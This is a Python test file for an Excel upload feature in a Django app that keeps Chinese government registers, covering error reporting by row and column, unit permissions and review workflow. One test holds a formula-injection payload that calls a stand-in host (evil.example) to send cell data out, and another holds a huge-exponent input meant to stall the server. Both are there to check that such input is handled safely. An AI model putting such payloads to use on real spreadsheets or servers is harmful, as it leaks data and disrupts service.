"""Uploads: every mistake listed with its row and column, nothing created unless all is right."""

import datetime
from decimal import Decimal

from registers.core.exchange import templates, uploads
from registers.core.status import Action, Status
from registers.core.workflow import transitioned
from registers.models import InspectionItem, PowerItem
from reviews.models import Filing, GovernmentContract, LegalityReview
from tests.factories import (
    make_document,
    make_item,
    make_xlsx,
    template_example,
)

ITEMS = uploads.resource_for("inspection-items")
CONTRACTS = uploads.resource_for("contracts")

ITEM_HEADER = [
    "填报单位",
    "清单年度",
    "事项编码",
    "抽查事项",
    "事项类别",
    "执法领域",
    "检查依据",
    "检查方式",
    "检查内容",
    "抽查比例（%）",
    "抽查频次",
    "清单公布日期",
    "取消日期",
]


def item_row(code="SJ-1", unit="", **changes):
    row = {
        "填报单位": unit,
        "清单年度": 2017,
        "事项编码": code,
        "抽查事项": "企业公示信息抽查",
        "事项类别": "行政检查事项",
        "执法领域": "工商市场监管",
        "检查依据": "《企业信息公示暂行条例》第十四条",
        "检查方式": "实地核查",
        "检查内容": "年度报告",
        "抽查比例（%）": 5,
        "抽查频次": "每年1次",
        "清单公布日期": datetime.date(2017, 3, 1),
        "取消日期": None,
    }
    row.update(changes)
    return [row[name] for name in ITEM_HEADER]


def upload_items(rows, user, **kwargs):
    return uploads.upload(ITEMS, make_xlsx(rows, ITEM_HEADER), user=user, **kwargs)


def located(result):
    return {(error.row, error.column, error.code) for error in result.errors}


def test_a_good_upload_creates_drafts_of_the_liaisons_unit(liaison, unit_a):
    result = upload_items([item_row("SJ-1", unit=unit_a.name), item_row("SJ-2", unit="")], liaison)

    assert result.ok, result.errors
    items = InspectionItem.objects.order_by("code")
    assert [(item.code, item.unit, item.status) for item in items] == [
        ("SJ-1", unit_a, Status.DRAFT),
        ("SJ-2", unit_a, Status.DRAFT),
    ]
    assert items[0].ratio == Decimal("5") and items[0].published_on == datetime.date(2017, 3, 1)
    assert items[0].created_by == liaison


def test_direct_submission_creates_submitted_records_sent_by_the_uploader(liaison):
    result = upload_items([item_row()], liaison, status=Status.SUBMITTED)

    item = InspectionItem.objects.get()
    assert result.status == Status.SUBMITTED
    assert (item.status, item.submitted_by) == (Status.SUBMITTED, liaison)
    assert item.submitted_at == item.created_at
    history = item.history.get()
    assert (history.status, history.history_user) == (Status.SUBMITTED, liaison)
    assert history.history_change_reason == f"Excel 上传：{Action.SUBMIT.label}"


def test_an_approved_upload_is_approved_directly_through_the_workflow(
    office, unit_a, django_capture_on_commit_callbacks
):
    heard = []

    def listener(sender, record, action, **kwargs):
        heard.append((record.code, action))

    transitioned.connect(listener)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            result = upload_items(
                [item_row("SJ-1", unit=unit_a.name), item_row("SJ-2", unit=unit_a.name)],
                office,
                status=Status.APPROVED,
            )
    finally:
        transitioned.disconnect(listener)

    assert result.ok, result.errors
    for item in InspectionItem.objects.all():
        history = item.history.order_by("history_id")
        # Approved as it is saved, as ``workflow.create`` approves one record: the
        # transition is the record's first history row.
        assert [(h.history_type, h.status, h.history_user) for h in history] == [
            ("+", Status.APPROVED, office),
        ]
        assert history.get().history_change_reason == f"Excel 上传：{Action.APPROVE_DIRECTLY.label}"
        assert (item.reviewed_by, item.reviewed_at) == (office, item.created_at)
    assert sorted(heard) == [("SJ-1", Action.APPROVE_DIRECTLY), ("SJ-2", Action.APPROVE_DIRECTLY)]


def test_a_liaison_cannot_ask_for_approved_records(liaison):
    upload_items([item_row()], liaison, status=Status.APPROVED)
    assert InspectionItem.objects.get().status == Status.DRAFT


def test_each_record_gets_one_history_row_by_the_uploader(liaison):
    upload_items([item_row("SJ-1"), item_row("SJ-2")], liaison)
    for item in InspectionItem.objects.all():
        history = item.history.get()
        assert history.history_type == "+"
        assert history.history_user == liaison


def test_a_file_with_several_mistakes_lists_every_one_and_creates_nothing(liaison):
    make_item(liaison.unit, code="OLD-1")
    rows = [
        item_row("SJ-1"),  # row 2: good
        item_row("SJ-2", 清单年度="二〇一七"),  # row 3
        item_row("SJ-3", 事项类别="专项检查"),  # row 4
        item_row("SJ-4", 清单公布日期="2017-02-30"),  # row 5
        item_row("", 抽查事项=""),  # row 6: two required cells empty
        item_row("SJ-1"),  # row 7: repeats row 2
        item_row("OLD-1"),  # row 8: already registered
        item_row("SJ-8", **{"抽查比例（%）": 0}),  # row 9: ratio must be above 0
        item_row("SJ-9", 取消日期=datetime.date(2017, 1, 1)),  # row 10: before publication
        item_row("SJ-10", 清单公布日期="2170-03-01"),  # row 11: a mistyped year
    ]

    result = upload_items(rows, liaison)

    assert InspectionItem.objects.filter(code__startswith="SJ").count() == 0
    assert not result.ok
    where = located(result)
    assert (3, "清单年度", "invalid_integer") in where
    assert (4, "事项类别", "invalid_choice") in where
    assert (5, "清单公布日期", "invalid_date") in where
    assert (6, "事项编码", "required") in where
    assert (6, "抽查事项", "required") in where
    assert (7, "事项编码", "duplicate_in_file") in where
    assert (8, "事项编码", "inspectionitem_unique_code") in where
    assert (9, "抽查比例（%）", "inspectionitem_ratio_range") in where
    assert (10, "取消日期", "inspectionitem_cancelled_after_published") in where
    assert (11, "清单公布日期", "date_out_of_range") in where
    assert not any(error.row == 2 for error in result.errors)
    rows = [error.row for error in result.errors]
    assert rows == sorted(rows)  # listed as the file reads, repeats included
    for error in result.errors:
        assert error.sheet == "数据"
        assert error.reason
    by_row = {error.row: error for error in result.errors}
    assert "二〇一七" in by_row[3].reason
    assert by_row[3].column_letter == "B"
    assert "第 2 行" in by_row[7].reason


def test_a_rows_mistakes_are_listed_column_by_column(liaison):
    # The document number's format is checked after the cells are read: it comes first anyway.
    header = ["制定机关", "标题", "文号", "文件类别", "印发日期"]
    rows = [["", "示例办法", "规范性文件", "专项文件", ""]]
    result = uploads.upload(
        uploads.resource_for("documents"), make_xlsx(rows, header), user=liaison
    )
    assert [(error.row, error.column_letter, error.code) for error in result.errors] == [
        (2, "C", "number_format"),
        (2, "D", "invalid_choice"),
        (2, "E", "required"),
    ]


def test_an_unknown_unit_is_named_in_the_office_upload(office, unit_a):
    result = upload_items(
        [item_row(unit="不存在的单位"), item_row("SJ-2", unit=unit_a.name)], office
    )
    assert located(result) == {(2, "填报单位", "unknown_reference")}
    assert "不存在的单位" in result.errors[0].reason
    assert not InspectionItem.objects.exists()


def test_the_office_uploads_for_the_units_named_in_the_file(office, unit_a, unit_b):
    result = upload_items(
        [item_row("SJ-1", unit=unit_a.name), item_row("SJ-2", unit=unit_b.name)], office
    )
    assert result.ok
    assert {(i.code, i.unit) for i in InspectionItem.objects.all()} == {
        ("SJ-1", unit_a),
        ("SJ-2", unit_b),
    }


def test_a_liaisons_row_naming_another_unit_is_refused(liaison, unit_a, unit_b):
    result = upload_items([item_row("SJ-1", unit=unit_b.name), item_row("SJ-2")], liaison)
    assert located(result) == {(2, "填报单位", "other_unit")}
    assert unit_a.name in result.errors[0].reason and unit_b.name in result.errors[0].reason
    assert not InspectionItem.objects.exists()


def test_the_office_may_upload_everything_for_one_chosen_unit(office, unit_a, unit_b):
    rows = [item_row("SJ-1", unit=unit_b.name), item_row("SJ-2", unit="")]
    result = upload_items(rows, office, unit=unit_b)
    assert result.ok
    assert {item.unit for item in InspectionItem.objects.all()} == {unit_b}


def test_a_row_naming_another_unit_than_the_office_chose_is_refused(office, unit_a, unit_b):
    result = upload_items([item_row("SJ-1", unit=unit_a.name)], office, unit=unit_b)
    assert located(result) == {(2, "填报单位", "other_unit")}
    assert not InspectionItem.objects.exists()


def test_the_office_needs_the_unit_column_when_no_unit_is_chosen(office):
    header = [name for name in ITEM_HEADER if name != "填报单位"]
    rows = [item_row()[1:]]
    result = uploads.upload(ITEMS, make_xlsx(rows, header), user=office)
    assert [(e.row, e.code) for e in result.errors] == [(1, "missing_column")]
    assert "填报单位" in result.errors[0].reason


def test_the_office_may_enter_approved_records(office, unit_a):
    result = upload_items([item_row(unit=unit_a.name)], office, status=Status.APPROVED)
    assert result.ok
    item = InspectionItem.objects.get()
    assert (item.status, item.reviewed_by) == (Status.APPROVED, office)


def test_approved_power_items_get_their_addition_recorded(office, unit_a):
    header, example = template_example(uploads.resource_for("power-items"), office)
    example[header.index("实施主体")] = unit_a.name
    result = uploads.upload(
        uploads.resource_for("power-items"),
        make_xlsx([example], header),
        user=office,
        status=Status.APPROVED,
    )
    assert result.ok, result.errors
    item = PowerItem.objects.get()
    assert item.origin is not None
    assert item.origin.document_number == "咸安政办发〔2016〕12号"


def test_a_liaison_cannot_name_another_units_document(liaison, unit_b):
    other = make_document(unit_b)
    result = uploads.upload(
        uploads.resource_for("filings"),
        make_xlsx(
            [[other.number, "咸宁市人民政府", "2017-04-01"]], ["规范性文件", "备案机关", "报备日期"]
        ),
        user=liaison,
    )
    assert located(result) == {(2, "规范性文件", "unknown_reference")}
    assert not Filing.objects.exists()


def test_a_filing_belongs_to_the_unit_of_its_document(liaison, unit_a):
    own = make_document(unit_a)
    result = uploads.upload(
        uploads.resource_for("filings"),
        make_xlsx([[own.number.replace("〔", "[").replace("〕", "]")]], ["规范性文件"]),
        user=liaison,
    )
    assert result.ok, result.errors
    assert Filing.objects.get().unit == unit_a


def test_columns_only_the_office_fills_must_stay_empty_in_a_liaisons_file(liaison):
    header = ["送审文件名称", "文件类别", "收件日期", "审核结论"]
    result = uploads.upload(
        uploads.resource_for("legality-reviews"),
        make_xlsx([["草案", "其他文件", "2017-03-01", "同意"]], header),
        user=liaison,
    )
    assert located(result) == {(2, "审核结论", "office_only")}
    assert not LegalityReview.objects.exists()


def test_model_rules_are_reported_with_their_codes(liaison):
    header, example = template_example(CONTRACTS, liaison)
    # A 2,500,000 yuan contract signed without the lawyer's review it needs.
    for column in ("审核律师事务所", "审核律师", "律师审核日期", "律师审核意见"):
        example[header.index(column)] = None
    result = uploads.upload(CONTRACTS, make_xlsx([example], header), user=liaison)
    assert ("签订日期", "lawyer_review_required") in {(e.column, e.code) for e in result.errors}
    assert not GovernmentContract.objects.exists()


def test_text_that_looks_like_a_formula_is_stored_as_text(liaison):
    import io

    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(ITEM_HEADER)
    sheet.append(item_row(抽查事项=hostile, 检查内容="@SUM(1+1)"))
    sheet["D2"].data_type = "s"  # typed as text ('=…), not as a formula
    data = io.BytesIO()
    book.save(data)
    result = uploads.upload(ITEMS, data.getvalue(), user=liaison)
    assert result.ok, result.errors
    item = InspectionItem.objects.get()
    assert item.name == hostile
    assert item.content == "@SUM(1+1)"


def test_blank_rows_are_skipped_and_errors_keep_the_sheets_row_numbers(liaison):
    rows = [item_row("SJ-1"), [None] * len(ITEM_HEADER), item_row("SJ-3", 事项类别="?")]
    result = upload_items(rows, liaison)
    assert located(result) == {(4, "事项类别", "invalid_choice")}
    assert result.rows == 2


def test_progress_is_reported_as_rows_are_checked(liaison, monkeypatch):
    monkeypatch.setattr(uploads, "PROGRESS_EVERY", 2)
    seen = []
    upload_items(
        [item_row(f"SJ-{n}") for n in range(5)],
        liaison,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert seen[0] == (2, 5)
    assert seen[-1] == (5, 5)
    assert [done for done, _total in seen] == sorted(done for done, _total in seen)


def test_a_filled_template_is_read_from_its_data_sheet(liaison):
    import io

    import openpyxl

    header, example = template_example(ITEMS, liaison)
    book = openpyxl.load_workbook(io.BytesIO(templates.build_template(ITEMS, liaison)))
    book["数据"].append(example)
    data = io.BytesIO()
    book.save(data)
    result = uploads.upload(ITEMS, data.getvalue(), user=liaison)
    assert result.ok, result.errors
    assert InspectionItem.objects.get().name == example[header.index("抽查事项")]


def test_the_upload_needs_no_query_per_row(liaison):
    few = make_xlsx([item_row(f"SJ-{n}") for n in range(3)], ITEM_HEADER)
    many = make_xlsx([item_row(f"SJ-{n}") for n in range(3, 60)], ITEM_HEADER)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as small:
        uploads.upload(ITEMS, few, user=liaison)
    with CaptureQueriesContext(connection) as large:
        uploads.upload(ITEMS, many, user=liaison)

    # Only the INSERTs grow, with batches of rows; lookups and checks do not.
    def lookups(context):
        return [q["sql"] for q in context.captured_queries if not q["sql"].startswith("INSERT")]

    assert len(lookups(large)) == len(lookups(small))
    assert InspectionItem.objects.count() == 60


def test_a_whole_number_of_a_billion_digits_is_refused_at_once(liaison):
    """ "1e999999999" is a whole number Decimal reads at once; writing it out as an int
    would take one core for minutes, and the server with it."""
    rows = [
        item_row("SJ-1", 清单年度="1e999999999"),
        item_row("SJ-2", 清单年度="1E18"),
        item_row("SJ-3", 清单年度="2.017e3"),
    ]
    result = upload_items(rows, liaison)
    assert not result.ok
    where = located(result)
    assert (2, "清单年度", "integer_out_of_range") in where
    assert (3, "清单年度", "integer_out_of_range") in where
    assert not any(row == 4 for row, _column, _code in where)
    assert not InspectionItem.objects.exists()
